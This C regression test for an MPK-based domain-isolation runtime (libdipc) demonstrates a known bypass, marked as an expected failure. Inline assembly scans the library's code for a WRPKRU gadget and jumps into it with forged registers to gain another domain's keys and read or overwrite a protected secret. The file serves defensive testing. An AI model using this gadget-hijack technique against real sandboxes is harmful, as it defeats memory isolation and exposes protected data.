// Known open (docs/runtime.md §6: "a jump into the middle of a return or
// gate-exit drop can install another domain's legitimate image"), shown
// here as far as it reaches. An attack round's `evil` (native code under
// `mpk`: its own asm) found in libdipc's public text the end of a drop,
// `mov eax, ecx; xor ecx, ecx; xor edx, edx; WRPKRU; cmp eax,
// [r9 * 4 + image table]`, and jumped there with ecx = vault's image and
// r9 = vault's index (the table is readable by every domain) and rsp on
// its unsafe stack: the check passes (a legitimate image), the `ret`
// returns to evil's code running with vault's rights. Modes: `gadget` (a
// gate exit), `proxy` (a proxy's return path), `proxy-write` (writes
// vault's memory), `bare` (a domain with no grant at all), `direct` (the
// plain read, stopped). Expected to fail until a drop is bound to the
// domain the runtime switches to, not to any domain's image.
// XFAIL: *
// REQUIRES: pku
// RUN: %dipc-clang -fdipc -O2 -masm=intel %s -o %t
// RUN: %dipc-bin-dir/dipc-run --backend=mpk %t direct 2>&1 | FileCheck %s --check-prefix=STOPPED
// RUN: %dipc-bin-dir/dipc-run --backend=mpk %t gadget 2>&1 | FileCheck %s --check-prefix=STOPPED
// RUN: %dipc-bin-dir/dipc-run --backend=mpk %t proxy 2>&1 | FileCheck %s --check-prefix=STOPPED
// RUN: %dipc-bin-dir/dipc-run --backend=mpk %t bare 2>&1 | FileCheck %s --check-prefix=BARE
// RUN: %dipc-bin-dir/dipc-run --backend=none %t direct 2>&1 | FileCheck %s --check-prefix=NONE
// STOPPED-NOT: stole
// STOPPED: nothing stolen
// BARE: stole ''
// NONE: stole 'vault-secret-42'
#define _GNU_SOURCE
#include "Inputs/vault.h"
#include <link.h>
#define RT_RO_TABLE_ADDR_ 0x7ff00000UL

extern void steal(void *area, const volatile char *secret, void *gadget,
                  uint64_t vault_img_idx, uint64_t evil_img_idx);
__asm__(".text\n.globl steal\n.type steal,@function\nsteal:\n"
        "push rbx\npush rbp\npush r12\npush r13\npush r14\npush r15\n"
        "mov r13, rdi\nmov r14, rsi\nmov r15, rdx\n"
        "mov [r13], rsp\nmov [r13+8], r8\n"
        "lea rax, [rip+1f]\nmov [r13+40], rax\nlea rsp, [r13+16]\n"
        "mov r9, rcx\nshr r9, 32\nmov ecx, ecx\njmp r15\n"
        "1:\nmov rax,[r14]\nmov [r13+64],rax\nmov rax,[r14+8]\nmov [r13+72],rax\n"
        "mov rax,[r14+16]\nmov [r13+80],rax\nmov rax,[r14+24]\nmov [r13+88],rax\n"
        "mov rcx,[r13+8]\nmov r9, rcx\nshr r9, 32\nmov ecx, ecx\n"
        "lea rax, [rip+2f]\nmov [r13+120], rax\nlea rsp, [r13+96]\njmp r15\n"
        "2:\nmov rsp,[r13]\npop r15\npop r14\npop r13\npop r12\npop rbp\npop rbx\nret\n"
        ".size steal, .-steal\n");

extern void steal_p(void *area, const volatile char *secret, void *gadget,
                    uint64_t vault_img_idx, uint64_t evil_img_idx, long wr);
__asm__(".text\n.globl steal_p\n.type steal_p,@function\nsteal_p:\n"
        "push rbx\npush rbp\npush r12\npush r13\npush r14\npush r15\n"
        "mov r13, rdi\nmov r14, rsi\nmov r15, rdx\nmov rbx, r9\n"
        "mov [r13], rsp\nmov [r13+8], r8\n"
        "lea rax, [rip+1f]\nmov [r13+40], rax\nlea rsp, [r13+40]\n"
        "mov r9, rcx\nshr r9, 32\nmov ecx, ecx\njmp r15\n"
        "1:\ntest rbx, rbx\njz 3f\nmov dword ptr [r14], 0x4c495645\n3:\n"
        "mov rax,[r14]\nmov [r13+64],rax\nmov rax,[r14+8]\nmov [r13+72],rax\n"
        "mov rax,[r14+16]\nmov [r13+80],rax\nmov rax,[r14+24]\nmov [r13+88],rax\n"
        "mov rcx,[r13+8]\nmov r9, rcx\nshr r9, 32\nmov ecx, ecx\n"
        "lea rax, [rip+2f]\nmov [r13+120], rax\nlea rsp, [r13+120]\njmp r15\n"
        "2:\nmov rsp,[r13]\npop r15\npop r14\npop r13\npop r12\npop rbp\npop rbx\nret\n"
        ".size steal_p, .-steal_p\n");

static int find_text(struct dl_phdr_info *info, size_t size, void *p) {
  (void)size;
  uintptr_t *r = p; /* in: an address in libdipc; out: lo, hi of its text */
  for (int i = 0; i < info->dlpi_phnum; ++i) {
    const ElfW(Phdr) *ph = &info->dlpi_phdr[i];
    uintptr_t lo = info->dlpi_addr + ph->p_vaddr;
    if (ph->p_type == PT_LOAD && (ph->p_flags & PF_X) && r[0] >= lo &&
        r[0] < lo + ph->p_memsz) {
      r[0] = lo; r[1] = lo + ph->p_memsz; return 1;
    }
  }
  return 0;
}

static uint32_t my_rdpkru(void) {
  uint32_t a, d;
  __asm__ volatile(".byte 0x0f,0x01,0xee" : "=a"(a), "=d"(d) : "c"(0));
  return a;
}

long attack(const char *mode, void *aux, const volatile char *secret, int key,
            char *loot) {
  (void)aux;
  if (strcmp(mode, "direct") == 0) { take(secret, loot); return 0; }
  uintptr_t t[2] = {(uintptr_t)(void *)dom_create, 0};
  if (!dl_iterate_phdr(find_text, t)) { printf("no libdipc text\n"); return -1; }
  unsigned char *g = NULL;
  for (unsigned char *c = (unsigned char *)t[0]; c + 20 < (unsigned char *)t[1]; c++)
    if (c[0] == 0x89 && c[1] == 0xc8 && c[2] == 0x31 && c[3] == 0xc9 &&
        c[4] == 0x31 && c[5] == 0xd2 && c[6] == 0x0f && c[7] == 0x01 &&
        c[8] == 0xef && c[9] == 0x42 && c[10] == 0x3b && c[11] == 0x04 &&
        c[12] == 0x8d && c[16] == 0x7f &&
        (mode[0] == 'p' ? c[17] == 0x0f && c[18] == 0x85 && c[24] == 0x89 && c[25] == 0xf8 && c[28] == 0xf2
                        : c[17] == 0x74)) { g = c; break; }
  const volatile uint32_t *img = (const volatile uint32_t *)RT_RO_TABLE_ADDR_;
  uint32_t me = my_rdpkru(), vd = 0, ed = 0;
  for (uint32_t d = 1; d < DIPC_MAX_DOMAINS; d++) {
    if (img[d] == me && !ed) ed = d;
    if (img[d] && !((img[d] >> (2 * key)) & 3) && !vd) vd = d;
  }
  printf("gadget %p (libdipc+%#lx), my pkru %#x (domain %u), vault key %d "
         "image %#x (domain %u)\n", (void *)g, (unsigned long)(g - (unsigned char *)t[0]),
         me, ed, key, vd ? img[vd] : 0, vd);
  fflush(stdout);
  if (!g || !vd || !ed) return -2;
  char area[256] __attribute__((aligned(16)));
  __asm__ volatile("" : : "r"(area) : "memory"); /* escapes: unsafe stack */
  printf("area %p pkey %d\n", (void *)area, pkey_of(area));
  fflush(stdout);
  if (mode[0] == 'p')
    steal_p(area, secret, g, img[vd] | (uint64_t)vd << 32,
            img[ed] | (uint64_t)ed << 32, strcmp(mode, "proxy-write") == 0);
  else
  steal(area, secret, g, img[vd] | (uint64_t)vd << 32, img[ed] | (uint64_t)ed << 32);
  memcpy(loot, area + 64, 31);
  loot[31] = 0;
  printf("back in evil, pkru %#x\n", my_rdpkru());
  return 0;
}

/* A domain with no grant at all: not even read of the default domain. */
long bare_attack(void *area, const volatile char *secret, void *gadget, int key)
    __dom("bare") __entry;
long bare_attack(void *area, const volatile char *secret, void *gadget, int key) {
  const volatile uint32_t *img = (const volatile uint32_t *)RT_RO_TABLE_ADDR_;
  uint32_t me = my_rdpkru(), vd = 0, ed = 0;
  for (uint32_t d = 1; d < DIPC_MAX_DOMAINS; d++) {
    if (img[d] == me && !ed) ed = d;
    if (img[d] && !((img[d] >> (2 * key)) & 3) && !vd) vd = d;
  }
  if (!vd || !ed) return -2;
  steal_p(area, secret, gadget, img[vd] | (uint64_t)vd << 32,
          img[ed] | (uint64_t)ed << 32, 0);
  return ed;
}

int main(int argc, char **argv) {
  if (argc > 1 && strcmp(argv[1], "bare") == 0) {
    /* main finds the gadget (libdipc is public code) and hands it over */
    uintptr_t t[2] = {(uintptr_t)(void *)dom_create, 0};
    dl_iterate_phdr(find_text, t);
    unsigned char *g = NULL;
    for (unsigned char *c = (unsigned char *)t[0]; c + 30 < (unsigned char *)t[1]; c++)
      if (c[0] == 0x89 && c[1] == 0xc8 && c[6] == 0x0f && c[7] == 0x01 && c[8] == 0xef &&
          c[9] == 0x42 && c[17] == 0x0f && c[18] == 0x85 && c[25] == 0xf8 && c[28] == 0xf2) { g = c; break; }
    static char area[256]; /* unsafe stack? use main's escaping local */
    char larea[256] __attribute__((aligned(16)));
    __asm__ volatile("" : : "r"(larea) : "memory");
    (void)area;
    const char *secret = vault_address();
    long r = bare_attack(larea, secret, g, vault_pkey(secret));
    printf("bare_attack returned %ld dipc_errno %d, area pkey %d, stole '%.31s'\n", r, dipc_errno, pkey_of(larea), larea + 64);
    return 0;
  }
  run_attack(argc > 1 ? argv[1] : "gadget", NULL);
  if (argc > 1 && strcmp(argv[1], "proxy-write") == 0)
    run_attack("proxy", NULL); /* read again: the write stayed */
  return 0;
}
